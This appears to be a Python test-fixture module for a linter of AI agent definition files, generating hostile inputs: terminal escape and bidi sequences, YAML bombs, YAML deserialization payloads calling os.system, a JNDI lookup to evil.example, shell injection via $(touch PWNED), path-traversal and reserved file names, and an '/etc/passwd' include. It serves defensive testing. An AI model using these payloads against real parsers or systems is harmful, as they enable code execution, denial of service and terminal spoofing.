"""What hostile files hold and are called."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

FOLDERS = {"claude": ".claude/agents", "opencode": ".opencode/agents", "copilot": ".github/agents"}
MARK = "PWNED"
"""The name of a file that must never come into being."""

ESC = "\x1b[31;5m"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
TITLE = "\x1b]0;owned\x07"
BIDI = "\u202eevil\u202c\u2066x\u2069\u200f\u061c"
ZERO_WIDTH = "a\u200bb\u200c\u200d\u2060c\ufeff"
C1 = "\x9b31m\x90q\x9d0;t\x9c"
COMMAND = "%0A::error file=x::y\n::set-output name=a::b"
XML = "]]><script>alert(1)</script>&amp;"
NASTY = {
    "escape": ESC,
    "link": LINK,
    "title": TITLE,
    "bidi": BIDI,
    "zero-width": ZERO_WIDTH,
    "c1": C1,
    "tag": "\U000e0041\U000e0042",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "bell": "\x07\x08\x7f",
    "command": "::error file=x::y",
    "xml": XML,
}
"""Text that must not reach a terminal or a log as it is."""


def agent(name: str = "a", more: str = "", body: str = "Do it.\n") -> str:
    return f"---\nname: {name}\ndescription: d\n{more}---\n{body}"


def quoted(text: str) -> str:
    """``text`` in YAML's double quotes, by code points."""
    return '"' + "".join(f"\\U{ord(one):08x}" for one in text) + '"'


def encodings() -> dict[str, bytes]:
    plain = agent().encode()
    return {
        "latin-1": plain + b"\xe9t\xe9\n",
        "overlong-2": plain + b"\xc0\x80\xc1\xbf\n",
        "overlong-3": plain.replace(b"description: d", b"description: \xe0\x80\xaf"),
        "overlong-4": plain + b"\xf0\x80\x80\xaf\n",
        "beyond": plain + b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80\n",
        "cut": plain + "é".encode()[:1],
        "lone-surrogate": plain.replace(b"description: d", b"description: \xed\xa0\x80\xed\xb0\x80"),
        "utf-16-le": agent().encode("utf-16"),
        "utf-16-be": b"\xfe\xff" + agent().encode("utf-16-be"),
        "utf-16-bare": agent().encode("utf-16-le"),
        "utf-32": agent().encode("utf-32"),
        "nul": plain.replace(b"description: d", b"description: d\0e"),
        "nul-only": b"\0" * 5000,
        "nul-fence": b"---\0\nname: a\n---\0\n",
        "two-boms": b"\xef\xbb\xbf\xef\xbb\xbf" + plain,
        "bom-only": b"\xef\xbb\xbf",
        "empty": b"",
        "carriage-returns": plain.replace(b"\n", b"\r"),
        "mixed-newlines": plain.replace(b"\n", b"\r\n", 2).replace(b"d\n", b"d\r"),
    }


def characters() -> dict[str, bytes]:
    """Each nasty text in every place of a file."""
    out = {}
    for name, text in NASTY.items():
        inline = text.replace("\n", " ")
        out[f"{name}-raw"] = agent(
            inline, f"{inline}: x\ntools: Read, {inline}\nmodel: {inline}\ncolor: {inline}\n", text + "\n"
        ).encode()
        value = quoted(text)
        out[f"{name}-escaped"] = agent(
            value,
            f"description: {value}\n{value}: x\ntools: [Read, {value}]\nmodel: {value}\ncolor: {value}\n"
            f"permission:\n  {value}: {value}\nmode: {value}\nhooks: {{{value}: [{{matcher: {value}}}]}}\n"
            f"mcp-servers: {{{value}: {{command: {value}}}}}\n# {inline}\n# agentlint: ignore[{inline}]\n",
        ).encode()
        out[f"{name}-broken"] = f"---\nname: {inline}: x\ndescription: [{inline}\n---\n{text}".encode()
    return out


def yaml_bombs() -> dict[str, bytes]:
    laughs = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    maps = "b0: &b0 {x: y}\n" + "".join(
        f"b{n}: &b{n} {{p: *b{n - 1}, q: *b{n - 1}, r: *b{n - 1}}}\n" for n in range(1, 25)
    )
    merges = "m0: &m0 {x: y}\n" + "".join(
        f"m{n}: &m{n}\n  <<: [*m{n - 1}, *m{n - 1}]\n  k{n}: v\n" for n in range(1, 25)
    )
    files = {
        "laughs": agent(more=laughs),
        "laughs-in-tools": agent(more=laughs + "tools: *a11\n"),
        "maps": agent(more=maps + "permission: *b24\nhooks: *b24\n"),
        "merges": agent(more=merges + "permission:\n  <<: *m24\n"),
        "itself": agent(more="a: &a [*a]\nb: &b {c: *b}\n"),
        "key-itself": agent(more="? &a [*a]\n: x\n"),
        "python-object": agent(more=f'x: !!python/object/apply:os.system ["touch {MARK}"]\n'),
        "python-name": agent(more="x: !!python/name:os.system\ny: !!python/module:antigravity\n"),
        "python-tools": agent(more=f'tools: !!python/object/new:os.system ["touch {MARK}"]\n'),
        "js-function": agent(more='x: !!js/function "function () { return 1 }"\n'),
        "include": agent(more="x: !include /etc/passwd\nname2: !ENV ${HOME}\n"),
        "tags": agent(more="x: !<tag:yaml.org,2002:binary> R0lG\ny: !!binary '%%%'\nz: !!float x\nw: !!int '0x'\n"),
        "directives": "%YAML 9.9\n%TAG ! tag:evil,2026:\n" + agent(),
        "template": agent(name="'{{ 7 * 7 }}'", more="x: ${jndi:ldap://evil.example/a}\ny: $(touch " + MARK + ")\n"),
        "shell": agent(name=f"'$(touch {MARK})'", more=f"model: '`touch {MARK}`; touch {MARK}'\n"),
        "numbers": agent(more=f"temperature: .nan\ntop_p: 1e400\nsteps: {'9' * 5000}\nmaxTurns: 0x{'f' * 5000}\n"),
        "dates": agent(more="x: 9999-99-99\ny: 0000-00-00T99:99:99Z\nz: 190:20:30\n"),
        "markers": agent(more='# agentlint:claude {bad json}\n# agentlint:opencode {"permission": {"*": "allow"}}\n'
                         '# agentlint:copilot ' + "[" * 5000 + "]" * 5000 + "\n"),
    }  # fmt: skip
    return {name: text.encode() for name, text in files.items()}


def sizes(count: int) -> dict[str, bytes]:
    """Much of one thing: ``count`` lines, keys, words or brackets, and five times as many characters."""
    files = {
        "huge-scalar": agent(more="x: " + "v" * count * 5 + "\n"),
        "huge-description": agent().replace("description: d", "description: " + "word " * count),
        "huge-quoted": agent(more='x: "' + "\\x41" * count + '"\n'),
        "huge-body": agent(body="line\n" * count),
        "many-keys": agent(more="".join(f"k{n}: v\n" for n in range(count))),
        "many-same-keys": agent(more="tools: Read\n" * count),
        "many-fences": "---\n" * count,
        "many-fences-in-body": agent(body="---\n" * count),
        "many-ignores": agent(more="# agentlint: ignore[unknown-key]\n" * (count // 4)),
        "many-comments-in-body": agent(body="<!-- agentlint: ignore[body-empty] -->\n" * (count // 4)),
        "many-tools": agent(more="tools: " + ", ".join(f"T{n}" for n in range(count)) + "\n"),
        "many-items": agent(more="tools:\n" + "".join(f"  - T{n}\n" for n in range(count))),
        "many-permissions": agent(
            more="permission:\n  bash:\n" + "".join(f"    'git {n} *': allow\n" for n in range(count))
        ),
        "many-anchors": agent(more="".join(f"k{n}: &n{n} v\n" for n in range(count))),
        "many-aliases": agent(more="a: &a x\nb: [" + "*a, " * count + "]\n"),
        "many-newlines": "\n" * count * 5,
        "many-spaces": agent(more="x:" + " " * count * 5 + "v\n"),
        "many-quotes": agent(more="x: " + "'" * (count * 2 + 1) + "\ny: " + '"' * (count * 2 + 1) + "\n"),
        "many-colons": agent(more="x: " + "a: " * count + "\n"),
        "many-hashes": agent(more="x: " + "a #" * count + "\n"),
        "many-returns": agent(body="\r" * count * 5),
        "many-escapes": agent().replace("description: d", "description: " + "a\\n\\n- b: c " * (count // 2)),
        "many-backticks": agent(body="`Read` tool mcp__a__b code-reviewer " * (count // 4) + "\n"),
        "many-dashes": "-" * count * 5,
        "deep-list": agent(more="tools: " + "[" * count + "]" * count + "\n"),
        "deep-open": agent(more="tools: " + "[" * count + "\n"),
        "deep-map": agent(more="permission: " + "{a: " * count + "\n"),
        "deep-dashes": agent(more="tools:\n  " + "- " * count + "x\n"),
        "deep-questions": agent(more="permission: " + "? " * count + "x\n"),
        "deep-block": agent(more="permission:\n" + "".join(" " * n + "k:\n" for n in range(1, int(count**0.5) * 3))),
        "stars": agent(more="permission:\n  bash:\n" + "".join(f"    '{'*a' * n}': allow\n" for n in range(1, 200))),
    }
    return {name: text.encode() for name, text in files.items()}


NAMES = {
    "up": "../../../up",
    "up-windows": "..\\..\\up",
    "root": "/etc/agentlint-pwned",
    "drive": "C:\\Windows\\evil",
    "drive-relative": "C:evil",
    "share": "\\\\server\\share\\evil",
    "stream": "a:b",
    "con": "CON",
    "nul": "nul",
    "nul-suffix": "NUL.md",
    "com1": "com1.x",
    "lpt": "LPT9 ",
    "dot": ".",
    "dots": "..",
    "hidden": ".hidden",
    "home": "~root",
    "option": "-rf",
    "slash": "a/b",
    "nul-byte": "a\0b",
    "newline": "a\nb",
    "escape": "a" + ESC,
    "bidi": "a" + BIDI,
    "zero-width": ZERO_WIDTH,
    "long": "x" * 300,
    "long-wide": "界" * 100,
    "surrogate": "a\ud800",
    "trailing-dot": "a.",
    "trailing-blank": "a ",
    "blank": " ",
    "star": "a*?",
    "dotslash": "./x",
    "glob": "{a,b}",
    "shell": f"$(touch {MARK})",
    "fullwidth-slash": "a\uff0fb",
    "division-slash": "..\u2215..\u2215x",
}
"""Names of agents that a path must not be made of, or only of what is left of them."""


def names() -> dict[str, bytes]:
    return {
        f"name-{key}": agent(quoted(name) if name.isprintable() is False or "'" in name else f"'{name}'").encode(
            "utf-8", "surrogatepass"
        )
        for key, name in NAMES.items()
    }


FILE_NAMES: tuple[bytes, ...] = (
    b"\xff\xfe\xfd.md",
    b"caf\xe9.md",
    b"\xed\xa0\x80.md",
    b"\x1b[31mred.md",
    b"\x1b]8;;https:\xe2\x88\x95\xe2\x88\x95evil\x1b\\x.md",
    b"new\nline.md",
    b"::error file=x::y.md",
    b"%0A,comma:colon.md",
    "\u202egpj.md".encode(),
    "\u200b.md".encode(),
    b"CON.md",
    b"nul.md",
    b"-rf.md",
    b"--help.md",
    b" .md",
    b".md",
    b"..md",
    b"a b'c\"d`e$(touch PWNED).md",
    b"<script>&.md",
    b"back\\slash.md",
    b"C:drive.md",
    b"*?[x].md",
    b"\x7f\x85\x9b.md",
    b"x" * 250 + b".md",
    b"a.agent.md",
    b"{}.chatmode.md",
)  # fmt: skip
"""What files may be called on a file system that takes any byte but two."""


def everything(count: int = 100) -> dict[str, bytes]:
    return {**encodings(), **characters(), **yaml_bombs(), **sizes(count), **names()}


def lay_out(root: Path, files: dict[str, bytes], *, odd_names: bool = True) -> None:
    """A project with ``files``, each for another client in turn, and with files of every odd name."""
    (root / ".git").mkdir(parents=True)
    for turn, (platform, folder) in enumerate(FOLDERS.items()):
        ending = ".agent.md" if platform == "copilot" else ".md"
        (root / folder).mkdir(parents=True)
        for name, data in list(files.items())[turn :: len(FOLDERS)]:
            (root / folder / f"{name}{ending}").write_bytes(data)
        for raw in FILE_NAMES[turn :: len(FOLDERS)] if odd_names else ():
            with open(os.path.join(os.fsencode(root / folder), raw), "wb") as file:
                file.write(agent(more="tools: Frobnicate\nodd: x\n").encode())
